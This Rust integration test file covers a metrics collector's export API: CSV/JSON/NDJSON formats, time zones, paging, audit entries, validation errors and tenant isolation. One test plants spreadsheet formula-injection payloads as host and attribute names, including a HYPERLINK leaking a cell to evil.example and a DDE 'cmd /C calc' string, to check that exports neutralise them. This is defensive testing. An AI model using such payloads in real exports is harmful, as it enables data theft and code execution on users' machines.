//! History as files: what is written reads back as what was sent, whole and once.

use farol_shared::{
    batch::{Table, Tables},
    frame::{Frame, Row},
    metric::Kind,
    record::{CheckResult, Records},
    wire,
};
use serde_json::{Value, json};

use crate::{
    harness::{Collector, Reply, batch, key, now_ms, resource},
    people::{person, send},
    records::{self, event, until},
};

const GAUGE: &str = "system.linux.memory.available";
const COUNTER: &str = "system.linux.context_switches";

/// The body of an answer that came in pieces, and whether it came to its end.
pub(crate) fn whole(reply: &Reply) -> (Vec<u8>, bool) {
    if reply.headers.get("transfer-encoding").map(String::as_str) != Some("chunked") {
        return (reply.body.clone(), true);
    }
    let (mut rest, mut body) = (reply.body.as_slice(), Vec::new());
    while let Some(end) = rest.windows(2).position(|two| two == b"\r\n") {
        let size = usize::from_str_radix(std::str::from_utf8(&rest[..end]).unwrap(), 16).unwrap();
        if size == 0 {
            return (body, true);
        }
        let Some(piece) = rest.get(end + 2..end + 2 + size) else { break };
        body.extend_from_slice(piece);
        rest = rest.get(end + 2 + size + 2..).unwrap_or_default();
    }
    (body, false)
}

async fn file(collector: &Collector, token: &str, path: &str) -> String {
    let reply = send(collector, token, "GET", path, &Value::Null).await;
    assert_eq!(reply.status, 200, "{path}: {reply:?}");
    let (body, is_whole) = whole(&reply);
    assert!(is_whole, "{path}");
    String::from_utf8(body).unwrap()
}

/// Rows of a CSV file by the names of its columns.
fn rows(csv: &str) -> Vec<Value> {
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let head = reader.headers().unwrap().clone();
    let row = |row: csv::StringRecord| head.iter().zip(row.iter()).map(|(name, cell)| (name.to_owned(), json!(cell))).collect();
    reader.records().map(|one| Value::Object(row(one.unwrap()))).collect()
}

fn texts(rows: &[Value], column: &str) -> Vec<String> {
    rows.iter().map(|row| row[column].as_str().unwrap().to_owned()).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn series_are_written_in_every_format_and_read_back_as_they_were_sent() {
    let (collector, _dir) = Collector::fresh().await;
    let start = (now_ms() - 600_000) / 1_000 * 1_000;
    let frames = [(start, 10.5, 100.0), (start + 1_000, 20.0, 150.0), (start + 2_000, 30.25, 250.0)];
    collector.store(&batch("host:a", 1, 1, &frames)).await;
    let token = collector.sign_in().await;
    let ask = format!("/api/v1/export?metric={GAUGE}&aggregate=raw&from={start}&to={}", start + 60_000);
    let reply = send(&collector, &token, "GET", &ask, &Value::Null).await;
    assert_eq!(reply.headers["content-type"], "text/csv; charset=utf-8; header=present");
    let name = &reply.headers["content-disposition"];
    assert!(
        name.starts_with("attachment; filename=\"farol-metrics-") && name.ends_with("Z.csv\"") || name.ends_with(".csv\""),
        "{name}"
    );
    let csv = String::from_utf8(whole(&reply).0).unwrap();
    assert!(csv.starts_with("time,resource,name,tenant,metric,attributes,unit,value\r\n"), "{csv}");
    let found = rows(&csv);
    assert_eq!(texts(&found, "value"), ["10.5", "20", "30.25"]);
    assert_eq!((&found[0]["resource"], &found[0]["name"], &found[0]["unit"]), (&json!("host:a"), &json!("a"), &json!("By")));
    let whole: Value = serde_json::from_str(&file(&collector, &token, &format!("{ask}&format=json")).await).unwrap();
    assert_eq!((&whole["count"], &whole["rows"][2]["value"]), (&json!(3), &json!(30.25)));
    let lines = file(&collector, &token, &format!("{ask}&format=ndjson&zone=-03:00")).await;
    let first: Value = serde_json::from_str(lines.lines().next().unwrap()).unwrap();
    assert!(lines.lines().count() == 3 && first["time"].as_str().unwrap().ends_with("-03:00"), "{lines}");
    let wide = format!(
        "/api/v1/export?metric={GAUGE},{COUNTER}&step=1s&from={start}&to={}&layout=wide&decimal=%2C&bom=true",
        start + 3_000
    );
    let wide = file(&collector, &token, &wide).await;
    let mut lines = wide.lines();
    assert_eq!(
        lines.next().unwrap(),
        "\u{feff}time;a system.linux.memory.available [By];a system.linux.context_switches [{switch}/s]"
    );
    let cells: Vec<&str> = lines.flat_map(|line| line.split(';').skip(1)).collect();
    assert_eq!(cells, ["10,5", "", "20", "50", "30,25", "100"]);
    collector.stop().await;
}

/// 12,000 seconds of one host, up to a minute ago.
async fn long_history(collector: &Collector) -> i64 {
    let start = (now_ms() - 12_060_000) / 1_000 * 1_000;
    for seq in 0..24_i64 {
        let at = |index: i64| seq * 500 + index;
        let value = |index: i64| f64::from(i32::try_from(at(index)).unwrap());
        let frames: Vec<(i64, f64, f64)> =
            (0..500).map(|index| (start + at(index) * 1_000, value(index), value(index) * 2.0)).collect();
        collector.store(&batch("host:a", 1, u64::try_from(seq).unwrap() + 1, &frames)).await;
    }
    start
}

#[tokio::test(flavor = "multi_thread")]
async fn a_file_of_many_slices_has_every_sample_once_and_in_order() {
    let (collector, _dir) = Collector::fresh().await;
    let start = long_history(&collector).await;
    let token = collector.sign_in().await;
    let to = now_ms();
    let csv =
        file(&collector, &token, &format!("/api/v1/export?metric={GAUGE}&aggregate=raw&from={}&to={to}", start - 86_400_000))
            .await;
    let values = texts(&rows(&csv), "value");
    assert_eq!(values.len(), 12_000);
    assert!(values.iter().enumerate().all(|(index, value)| *value == index.to_string()));
    let minutes =
        file(&collector, &token, &format!("/api/v1/export?metric={COUNTER}&step=1s&aggregate=increase&from={start}&to={to}"))
            .await;
    let grown: f64 = texts(&rows(&minutes), "value").iter().map(|value| value.parse::<f64>().unwrap()).sum();
    assert!((grown - 23_998.0).abs() < 1e-6, "{grown}");
    let size = collector.json(&token, &format!("/api/v1/export/size?metric={GAUGE}&aggregate=raw&from={start}&to={to}")).await;
    let (told, real) = (size["bytes"].as_f64().unwrap(), csv.len() as f64);
    assert!((0.5..2.0).contains(&(told / real)), "told {told}, came {real}");
    let rows = size["rows"].as_i64().unwrap();
    assert!((11_900..12_100).contains(&rows) && size["series"] == 1, "{size}");
    // One line each, with what was asked for and how much came.
    let lines = until(&collector, &token, "/api/v1/audit?action=export", |log| {
        let entries = log["entries"].as_array()?.clone();
        (entries.len() == 2 && entries.iter().all(|line| line["result"] == "done")).then_some(entries)
    });
    let lines = lines.await;
    assert_eq!((lines[1]["count"].as_i64(), &lines[1]["detail"]["metrics"]), (Some(12_000), &json!([GAUGE])));
    collector.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_report_of_the_guide_comes_as_a_file_of_figures() {
    let (collector, _dir) = Collector::fresh().await;
    let token = collector.sign_in().await;
    let sent =
        |count: usize| (0..count).map(|_| event(now_ms(), "MessageSent", r#"{"message_id":"1","status":"sent"}"#)).collect();
    // History sees an increase between two values: what is told first is zero.
    collector
        .store(&records::batch("host:a", 1, "shop", vec![(now_ms(), Records { events: sent(3), ..Records::default() })]))
        .await;
    until(&collector, &token, "/api/v1/events", |answer| (answer["derived"]["messages_sent"] == 3.0).then_some(())).await;
    let body =
        json!({ "format": "csv", "period": "24h", "metrics": ["messages_sent", "messages_received", "active_conversations"] });
    let reply = send(&collector, &token, "POST", "/api/v1/dashboard/export", &body).await;
    assert_eq!(reply.status, 200, "{reply:?}");
    let found = rows(&String::from_utf8(whole(&reply).0).unwrap());
    let total: f64 = found
        .iter()
        .filter(|row| row["metric"] == "messages_sent")
        .map(|row| row["value"].as_str().unwrap().parse::<f64>().unwrap())
        .sum();
    assert!((total - 3.0).abs() < 1e-9, "{found:?}");
    for (body, word) in [
        (json!({ "metrics": ["messages_sent"], "color": "red" }), "color"),
        (json!({ "metrics": [] }), "metric"),
        (json!({}), "metrics"),
        (json!({ "metrics": ["no_such_thing"] }), "no_such_thing"),
        (json!({ "metrics": ["messages_sent"], "period": "soon" }), "period"),
        (json!({ "metrics": ["messages_sent"], "aggregate": "raw" }), "raw"),
        (json!({ "metrics": ["requests_per_sec"], "step": "90s" }), "step"),
    ] {
        let reply = send(&collector, &token, "POST", "/api/v1/dashboard/export", &body).await;
        assert!(matches!(reply.status, 400 | 422), "{body}: {reply:?}");
        assert!(reply.text().contains(word), "{body}: {}", reply.text());
    }
    collector.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_wrong_with_an_export_is_told_by_name() {
    let (collector, _dir) = Collector::fresh().await;
    let token = collector.sign_in().await;
    for (query, word) in [
        ("metric=messages_sent&format=xls", "format"),
        ("metric=messages_sent&zone=Mars", "zone"),
        ("metric=messages_sent&zone=-03:00&offset=60", "offset"),
        ("metric=messages_sent&offset=900", "offset"),
        ("metric=messages_sent&decimal=x", "decimal"),
        ("metric=messages_sent&layout=tall", "layout"),
        ("metric=messages_sent&step=1ms", "step"),
        ("metric=messages_sent&from=2&to=1", "from"),
        ("metric=messages_sent&from=2&period=1h", "period"),
        ("metric=messages_sent&compare=previous&layout=wide", "compare"),
        ("metric=messages_sent&resource=nobody", "nobody"),
        ("metric=messages_sent&attribute=x", "attribute"),
        ("metric=messages_sent&colour=red", "colour"),
        ("", "metric"),
    ] {
        let reply = send(&collector, &token, "GET", &format!("/api/v1/export?{query}"), &Value::Null).await;
        assert_eq!(reply.status, 400, "{query}: {reply:?}");
        assert!(reply.json()["detail"].as_str().unwrap().contains(word), "{query}: {}", reply.text());
    }
    assert_eq!(send(&collector, &token, "GET", "/api/v1/export/secrets", &Value::Null).await.status, 404);
    assert_eq!(send(&collector, &token, "GET", "/api/v1/export/events?level=warn", &Value::Null).await.status, 400);
    collector.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn days_begin_at_local_midnight_and_are_told_against_the_day_before() {
    let (collector, _dir) = Collector::fresh().await;
    const HOUR_MS: i64 = 3_600_000;
    // A sample an hour: the number of its hour since the epoch.
    let last = now_ms() / HOUR_MS;
    let frames: Vec<(i64, f64, f64)> =
        (last - 46..=last).map(|hour| (hour * HOUR_MS, f64::from(i32::try_from(hour - last + 100).unwrap()), 0.0)).collect();
    collector.store(&batch("host:a", 1, 1, &frames)).await;
    let token = collector.sign_in().await;
    let ask = format!(
        "/api/v1/export?metric={GAUGE}&step=1d&zone=-03:00&compare=previous&aggregate=max&from={}&to={}",
        (last - 10) * HOUR_MS,
        (last + 1) * HOUR_MS
    );
    let found = rows(&file(&collector, &token, &ask).await);
    let local_day = |hour: i64| (hour - 3).div_euclid(24);
    let mut expect = std::collections::BTreeMap::new();
    for hour in last - 46..=last {
        expect.insert(local_day(hour), f64::from(i32::try_from(hour - last + 100).unwrap()));
    }
    let first = local_day(last - 10);
    let days: Vec<i64> = expect.keys().copied().filter(|day| *day >= first).collect();
    assert_eq!(found.len(), days.len(), "{found:?}");
    for (row, day) in found.iter().zip(days) {
        assert!(row["time"].as_str().unwrap().ends_with("T00:00:00.000-03:00"), "{row}");
        let number = |name: &str| row[name].as_str().unwrap().parse::<f64>().unwrap();
        let (value, previous) = (expect[&day], expect[&(day - 1)]);
        assert!((number("value") - value).abs() < 1e-9 && (number("previous") - previous).abs() < 1e-9, "{row}");
        assert!((number("change") - (value - previous) / previous).abs() < 1e-6, "{row}");
    }
    collector.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn records_of_many_pages_come_once_each_newest_first() {
    let (collector, _dir) = Collector::fresh().await;
    let token = collector.sign_in().await;
    let now = now_ms();
    for seq in 0..2_i64 {
        let at = |index: i64| now - 60_000 + (seq * 350 + index) * 10;
        let events = (0..350)
            .map(|index| event(at(index), "OrderPlaced", &format!(r#"{{"n":{},"to":"=1+1"}}"#, seq * 350 + index)))
            .collect();
        let checks = (0..350)
            .map(|index| CheckResult {
                time_ms: at(index),
                name: format!("c{index}"),
                kind: "http".to_owned(),
                ..CheckResult::default()
            })
            .collect();
        let records = Records { events, checks, ..Records::default() };
        collector.store(&records::batch("host:a", u64::try_from(seq).unwrap() + 1, "shop", vec![(now, records)])).await;
    }
    let found = rows(&file(&collector, &token, "/api/v1/export/events?period=1h").await);
    let numbers: Vec<i64> = found
        .iter()
        .map(|row| serde_json::from_str::<Value>(row["payload"].as_str().unwrap()).unwrap()["n"].as_i64().unwrap())
        .collect();
    assert_eq!(numbers, (0..700).rev().collect::<Vec<i64>>());
    assert_eq!((&found[0]["name"], &found[0]["type"]), (&json!("shop"), &json!("OrderPlaced")));
    let lines = file(&collector, &token, "/api/v1/export/checks?period=1h&format=ndjson").await;
    let names: std::collections::BTreeSet<String> =
        lines.lines().map(|line| serde_json::from_str::<Value>(line).unwrap()["id"].to_string()).collect();
    assert_eq!((lines.lines().count(), names.len()), (700, 700));
    let none = file(&collector, &token, "/api/v1/export/logs?format=json").await;
    assert_eq!(serde_json::from_str::<Value>(&none).unwrap()["rows"], json!([]));
    collector.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn names_that_a_workload_sends_are_no_formulas_in_a_spreadsheet() {
    let (collector, _dir) = Collector::fresh().await;
    let token = collector.sign_in().await;
    let mut hostile = resource("host:a");
    hostile.attributes.insert("host.name".to_owned(), "=HYPERLINK(\"http://evil.example/?\"&A1)".to_owned());
    let mut column = key(GAUGE, "By", Kind::Gauge);
    column.attributes = vec![("mount".to_owned(), "@SUM(1+1)*cmd|' /C calc'!A0".to_owned())];
    let mut sent = batch("host:a", 1, 1, &[(now_ms() - 1_000, 1.0, 0.0)]);
    sent.taken = 1;
    sent.tables = wire::encode_tables(&Tables(vec![Table { resource: hostile, series: vec![column] }])).into();
    sent.frames = vec![Frame { time_ms: now_ms() - 1_000, rows: vec![Row(vec![-1.0])], records: Vec::new() }];
    collector.store(&sent).await;
    for layout in ["long", "wide"] {
        let csv =
            file(&collector, &token, &format!("/api/v1/export?metric={GAUGE}&aggregate=raw&period=1h&layout={layout}")).await;
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(csv.as_bytes());
        for row in reader.records() {
            for cell in row.unwrap().iter().filter(|cell| *cell != "-1") {
                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?} in {csv}");
            }
        }
        assert!(csv.contains(",-1\r\n"), "a number is a number: {csv}");
    }
    collector.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn people_of_a_tenant_export_what_belongs_to_it_and_nothing_else() {
    let (collector, _dir) = Collector::fresh().await;
    let admin = collector.sign_in().await;
    let now = now_ms();
    for (seq, tenant) in [(1, "acme"), (2, "globex")] {
        let mut owned = resource(&format!("host:{tenant}"));
        owned.tenant = Some(tenant.to_owned());
        let mut sent = batch(&format!("host:{tenant}"), 1, 1, &[(now - 2_000, 5.0, 1.0), (now - 1_000, 6.0, 2.0)]);
        let series = vec![key(GAUGE, "By", Kind::Gauge), key(COUNTER, "{switch}", Kind::Counter)];
        sent.tables = wire::encode_tables(&Tables(vec![Table { resource: owned, series }])).into();
        collector.store(&sent).await;
        let mut told = event(now, "MessageSent", &format!(r#"{{"status":"sent","to":"{tenant}"}}"#));
        told.tenant = Some(tenant.to_owned());
        let events = vec![told; usize::try_from(seq).unwrap()];
        collector.store(&records::batch("shared", seq, "shop", vec![(now, Records { events, ..Records::default() })])).await;
    }
    let ana = person(&collector, &admin, "ana", "viewer", Some("acme")).await;
    let csv = file(&collector, &ana, &format!("/api/v1/export?metric={GAUGE},messages_sent&period=1h&step=1m")).await;
    let found = rows(&csv);
    assert!(csv.contains("host:acme") && !csv.contains("globex"), "{csv}");
    let sent = |found: &[Value]| -> f64 {
        found
            .iter()
            .filter(|row| row["metric"] == "messages_sent")
            .map(|row| row["value"].as_str().unwrap().parse::<f64>().unwrap())
            .sum()
    };
    assert!((sent(&found) - 1.0).abs() < 1e-9, "of its own events: {csv}");
    let other = rows(&file(&collector, &admin, "/api/v1/export?metric=messages_sent&period=1h&step=1m&tenant_id=globex").await);
    assert!((sent(&other) - 2.0).abs() < 1e-9, "{other:?}");
    let events = file(&collector, &ana, "/api/v1/export/events?period=1h&format=ndjson").await;
    assert!(events.contains("acme") && !events.contains("globex"), "{events}");
    for path in ["/api/v1/export?metric=messages_sent&tenant_id=globex", "/api/v1/export/events?tenant_id=globex"] {
        let reply = send(&collector, &ana, "GET", path, &Value::Null).await;
        assert_eq!((reply.status, &reply.json()["code"]), (403, &json!("other_tenant")), "{path}");
    }
    let foreign = format!("/api/v1/export?metric={GAUGE}&resource=host:globex");
    let reply = send(&collector, &ana, "GET", &foreign, &Value::Null).await;
    assert_eq!(reply.status, 400, "as if it were not there: {reply:?}");
    collector.stop().await;
}
